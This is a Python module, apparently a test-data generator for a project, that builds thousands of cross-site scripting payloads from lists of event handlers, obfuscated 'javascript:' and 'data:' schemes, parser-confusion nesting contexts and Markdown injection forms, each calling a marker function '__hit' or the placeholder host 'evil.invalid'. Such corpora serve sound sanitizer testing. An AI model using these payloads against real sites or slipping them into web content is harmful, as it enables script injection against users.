"""Ways to make a page run what its reader never asked for, in their thousands.

Written for this project after the classes that are known: elements and attributes that
run, addresses that are code, texts that a second parser reads otherwise than the first.
Each calls ``__hit`` with its number, or asks ``evil.invalid`` for something.
"""

from __future__ import annotations

import random
from collections.abc import Iterator
from typing import Final

EVIL: Final = "https://evil.invalid"
_EVENTS: Final = (
    "abort activate afterprint animationend animationiteration animationstart auxclick "
    "beforecopy beforeinput beforematch beforeprint beforetoggle beforeunload begin blur "
    "bounce cancel canplay change click close contextmenu copy cuechange cut dblclick drag "
    "dragend dragenter dragover dragstart drop durationchange end ended error finish focus "
    "focusin focusout formdata fullscreenchange gotpointercapture hashchange input invalid "
    "keydown keypress keyup load loadeddata loadend loadstart message mousedown mouseenter "
    "mouseleave mousemove mouseout mouseover mouseup mousewheel pagehide pageshow paste "
    "pause play playing pointerdown pointerenter pointermove pointerover pointerrawupdate "
    "popstate progress readystatechange repeat reset resize scroll scrollend search "
    "securitypolicyviolation seeked select selectionchange selectstart show slotchange "
    "start submit suspend timeupdate toggle touchend touchstart transitionend "
    "transitionrun transitionstart unhandledrejection unload volumechange wheel zoom"
)
_BEARERS: Final = (
    *("img src=x", "p", "a href=#", "b", "details open", "div", "span", "table", "td"),
    *(
        "svg",
        "video src=x",
        "audio src=x",
        "body",
        "input autofocus",
        "marquee",
        "ruby",
    ),
    *(
        "select autofocus",
        "textarea autofocus",
        "button autofocus",
        "iframe",
        "blockquote",
    ),
    *("object data=x", "image src=x", "style", "math", "form", "li", "h2", "hr", "br"),
    *(
        "x-y contenteditable tabindex=1 autofocus",
        "template",
        "track src=x",
        "embed src=x",
    ),
)
_SCHEMES: Final = (
    *("javascript:", "JaVaScRiPt:", " javascript:", "\tjavascript:", "java\tscript:"),
    *("java\nscript:", "java\rscript:", "\x01javascript:", "\x1fjavascript:"),
    *(
        "javascript&colon;",
        "&#106;avascript:",
        "&#x6A;avascript:",
        "&#0000106avascript:",
    ),
    *("javascript&#58;", "java&#9;script:", "java&Tab;script:", "java&NewLine;script:"),
    *(
        "javascript\u200b:",
        "\ufeffjavascript:",
        "\u00a0javascript:",
        "view-source:javascript:",
    ),
    *("feed:javascript:", "jar:javascript:", "vbscript:", "VBSCRIPT:", "livescript:"),
    *("mocha:", "data:text/html,<script>", "data:text/html;base64,", "DATA:text/html,"),
    *(
        "data:image/svg+xml,<svg onload=",
        "data:application/xhtml+xml,",
        "blob:",
        "filesystem:",
    ),
    *(
        "about:",
        "file:///",
        "//evil.invalid/",
        "\\\\evil.invalid\\",
        "/\\evil.invalid/",
    ),
    *(
        "&#x01;javascript:",
        "javascript&#x0;:",
        "%6Aavascript:",
        "javascript%3A",
        "x-javascript:",
    ),
    *("ＪavaScript:", "javaſcript:", "j\\61vascript:", "javascript:javascript:"),
)
_ADDRESSED: Final = (
    *('<a href="{}">x</a>', "<a href='{}'>x</a>", "<a href={}>x</a>", '<img src="{}">'),
    *('<iframe src="{}"></iframe>', '<form action="{}"><input type=submit></form>'),
    *('<form><button formaction="{}">x</button></form>', '<object data="{}"></object>'),
    *('<embed src="{}">', '<base href="{}">', '<link rel=stylesheet href="{}">'),
    *('<link rel=import href="{}">', '<link rel=preload as=script href="{}">'),
    *('<svg><a xlink:href="{}"><text>x</text></a></svg>', '<math href="{}">x</math>'),
    *(
        '<meta http-equiv=refresh content="0;url={}">',
        '<area href="{}">',
        '<q cite="{}">x</q>',
    ),
    *(
        '<body background="{}">',
        '<table background="{}"><td>x',
        '<video poster="{}"></video>',
    ),
    *(
        '<input type=image src="{}">',
        '<a ping="{}" href="#">x</a>',
        '<img srcset="{} 2x">',
    ),
    *(
        '<svg><use href="{}#x"/></svg>',
        '<svg><image href="{}"/></svg>',
        '<frame src="{}">',
    ),
    *(
        '<p style="background:url({})">x</p>',
        "<style>@import '{}';</style>",
        '<track src="{}">',
    ),
    *('<picture><source srcset="{}"></picture>', '<a href="x" target="{}">x</a>'),
    *(
        '<svg><animate xlink:href=#a attributeName=href values="{}"/><a id=a>x</a></svg>',
    ),
)
_RUNS: Final = (
    "<script>{}</script>", "<SCRIPT>{}</SCRIPT>", "<script/x>{}</script>", "<script\n>{}</script\n>",
    "<scr<script>ipt>{}</scr</script>ipt>", "<<script>{}//<</script>", "<script>{}", "<script/src=data:,{}>",
    "<svg><script>{}</script></svg>", "<svg><script>{}</svg>", "<math><script>{}</script></math>",
    "<svg onload={}>", "<svg/onload={}//", "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<svg><set attributeName=onload to={}>", "<svg><foreignObject><iframe srcdoc='<script>parent.{}</script>'>",
    "<img src=x onerror={}>", "<img/src=x/onerror={}>", "<img src='x'onerror='{}'>", "<img src=`x`onerror={}>",
    "<img \x00src=x onerror={}>", "<img src=x o\x00nerror={}>", "<img src=x onerror\x0c=\x0c{}>", "<img src=x onerror=\n{}>",
    '<img """><script>{}</script>">', "<img src=x:x onerror&#61;{}>", "<image src=x onerror={}>", "<img src=x onerror={} ",
    "<iframe srcdoc=\"<script>parent.{}</script>\"></iframe>", "<iframe srcdoc='&lt;img src=x onerror=parent.{}&gt;'>",
    "<object type=text/html data='data:text/html,<script>parent.{}</script>'></object>",
    "<details open ontoggle={}><summary>x</summary></details>", "<video><source onerror={}></video>",
    "<marquee onstart={}>x</marquee>", "<body onload={}>", "<html onmouseover={}>", "<frameset onload={}>",
    "<input autofocus onfocus={}>", "<select autofocus onfocus={}>", "<x onclick={} tabindex=1 id=x>x</x>",
    "<style>*{{background:url('javascript:{}')}}</style>", "<p style='width:expression({})'>x</p>", "<p style=\"x:\\65xpression({})\">x</p>",
    "<p style='behavior:url(#default#time2)' onbegin='{}'>x</p>", "<div style=\"-moz-binding:url('data:,{}')\">x</div>",
    "<style onload={}></style>", "<link rel=stylesheet href=data:, onload={}>", "<meta http-equiv=refresh content='0;javascript:{}'>",
    "<isindex action=javascript:{} type=image>", "<keygen autofocus onfocus={}>", "<xml onreadystatechange={}>",
    "<?xml-stylesheet href='javascript:{}'?>", "<!ENTITY x SYSTEM 'javascript:{}'>", "<xss style='animation-name:x' onanimationstart={}>",
    "<slot onslotchange={}>", "<dialog open onclose={}>x</dialog>", "<button popovertarget=x onclick={}>x</button><p popover id=x onbeforetoggle={}>",
)  # fmt: skip
# What one parser closes and the next one does not.
_NESTS: Final = (
    "{}", "<p>{}</p>", '"><p>{}', "'>{}", "-->{}", "]]>{}", "</title>{}", "</textarea>{}", "</style>{}", "</noscript>{}",
    "<noscript><p title=\"</noscript>{}\">", "<noscript><style></noscript>{}", "<noscript><!--</noscript>{}-->",
    "<textarea><p title=\"</textarea>{}\">", "<title><p title='</title>{}'>", "<style><p title='</style>{}'></style>",
    "<xmp><p title=\"</xmp>{}\"></xmp>", "<noembed><p title='</noembed>{}'></noembed>", "<noframes></noframes>{}",
    "<iframe><p title='</iframe>{}'></iframe>", "<svg><style><p title='</style>{}'></style></svg>", "<svg></p><style><a id=\"</style>{}\">",
    "<math><mtext><table><mglyph><style><!--</style>{}--></style></mglyph></table></mtext></math>",
    "<math><mtext><table><mglyph><style><math><table id=\"</table>{}\">", "<form><math><mtext></form><form><mglyph><style></math>{}</style>",
    "<math><annotation-xml encoding='text/html'><style>{}</style></annotation-xml></math>", "<svg><desc><style>{}</style></desc></svg>",
    "<svg><title><style>{}</style></title></svg>", "<svg><foreignobject><style><!--</style>{}--></style></foreignobject></svg>",
    "<math><mi><xmp>{}</xmp></mi></math>", "<select><template><style>{}</style></template></select>", "<select><style></select>{}</style></select>",
    "<table><td><style></table>{}</style>", "<template>{}</template>", "<template shadowrootmode=open>{}</template>", "<![CDATA[{}]]>",
    "<svg><![CDATA[<p>]]>{}</svg>", "<!--><p>{}-->", "<!--->{}-->", "<!--!>{}-->", "<!-- --!>{}-->", "<!-- > {} -->", "<!x {}>", "<? {} ?>", "</ {}>",
    "<%{}%>", "<a title='{}'>x</a>", "<a title=\"&lt;/a&gt;{}\">x</a>", "<img alt='{}' src=x>", "<img alt='\"><p>{}' src=x>", "<b><i>{}</b></i>",
    "<ruby><rt>{}</ruby>", "<details><summary>{}</details>", "<pre>\n{}</pre>", "<code>{}</code>", "<q>{}</q>", "<h2>{}</h2>", "<ul><li>{}</ul>",
    "<table><tr><td>{}</table>", "<table>{}</table>", "<blockquote>{}</blockquote>", "<center>{}</center>", "<font color='{}'>x</font>",
    "&lt;p&gt;{}", "&amp;lt;p&amp;gt;{}", "\\<p\\>{}", "`{}`", "<p\n>{}</p\n>", "<p class='{}'>x</p>", "<p id='\"{}'>x</p>", "<dl><dt>{}<dd>{}</dl>",
)  # fmt: skip
_MARKDOWN: Final = (
    *(
        "[x]({})",
        "[x](<{}>)",
        '[x]({} "t")',
        "[x][{n}]\n\n[{n}]: {}",
        "<{}>",
        "![x]({})",
    ),
    *(
        '![x"onerror="{}](a.png)',
        '![x](a.png "t\\" onerror=\\"{}")',
        "![x](a.png 't\" onerror={}')",
    ),
    *(
        "[x](a.md){{: onclick={}}}",
        "x {{onclick={}}}\n{{: onclick={}}}",
        "[x]( {} )",
        "[x](\\{})",
    ),
    *(
        "[x][]\n\n[x]: {} 'a\" onclick={}'",
        "x[^{n}]\n\n[^{n}]: <img src=x onerror={}>",
        "*[x]: {}",
    ),
    *(
        "<a\nhref={}\n>x</a>",
        "<img src=x\n\nonerror={}>",
        "<a href='x\n\n' onclick={}>x</a>",
    ),
    *(
        "``` {}\nx\n```",
        "```\n</code></pre>{}\n```",
        "    </code></pre>{}",
        "#### {} {{#{}}}",
    ),
    *(
        "| {} | x |\n|---|---|\n| {} | y |",
        "> {}\n> - {}",
        "[<img src=x onerror={}>](x)",
        "![[x]({})](y)",
    ),
    *(
        "<div markdown=1>\n[x]({})\n</div>",
        '[a](http://x"onmouseover={})',
        '[a](<x" onclick={}>)',
        "\\<script>{}</script>",
    ),
    *(
        "<!-- {}",
        "&lt;script&gt;{}&lt;/script&gt;",
        "&#60;img src=x onerror={}&#62;",
        '<http://x" onclick={}>',
        "**<b onclick={}>**",
    ),
)


def html(count: int, seed: int) -> Iterator[str]:
    """Yield different pieces of HTML."""
    by = random.Random(seed)
    seen: set[str] = set()
    while len(seen) < count:
        piece = _nested(by, _piece(by, f"__hit({seed * 100_000 + len(seen)})"))
        if piece not in seen:
            seen.add(piece)
            yield piece


def markdown(count: int, seed: int) -> Iterator[str]:
    """Yield different pieces of Markdown."""
    by = random.Random(seed)
    for n in range(count):
        hit = f"__hit({seed * 100_000 + n})"
        form = by.choice(_MARKDOWN)
        what = by.choice([by.choice(_SCHEMES) + hit, hit, _piece(by, hit)])
        piece = (
            form.replace("{{", "\ue000").replace("}}", "\ue001").replace("{n}", str(n))
        )
        piece = piece.replace("{}", what).replace("\ue000", "{").replace("\ue001", "}")
        yield piece if by.random() < 0.8 else _nested(by, piece)


def addresses(count: int, seed: int) -> Iterator[str]:
    """Yield addresses that are code."""
    for n in range(count):
        yield _SCHEMES[n % len(_SCHEMES)] + f"__hit({seed * 100_000 + n})"


def plain(count: int, seed: int) -> Iterator[str]:
    """Yield short pieces on one line, for a title or a name."""
    for piece in html(count * 3, seed):
        line = " ".join(piece.replace(",", ";").replace("\x00", "").split())
        if len(line) < 140:
            yield line


def _piece(by: random.Random, hit: str) -> str:
    kind = by.random()
    if kind < 0.35:
        return by.choice(_RUNS).replace("{{", "{").replace("}}", "}").replace("{}", hit)
    if kind < 0.6:
        quote = by.choice(["", "'", '"', "`"])
        space = by.choice([" ", "/", "\n", "\t", "\x0c", " x ", "/x/"])
        name = "on" + by.choice(_EVENTS.split())
        name = by.choice([name, name.upper(), name.title()])
        return f"<{by.choice(_BEARERS)}{space}{name}={quote}{hit}{quote}>"
    address = by.choice(_SCHEMES) + hit if kind < 0.85 else f"{EVIL}/{hit}"
    return by.choice(_ADDRESSED).replace("{}", address)


def _nested(by: random.Random, piece: str) -> str:
    for _ in range(by.choice([0, 1, 1, 1, 2, 3])):
        piece = by.choice(_NESTS).replace("{}", piece)
    return piece
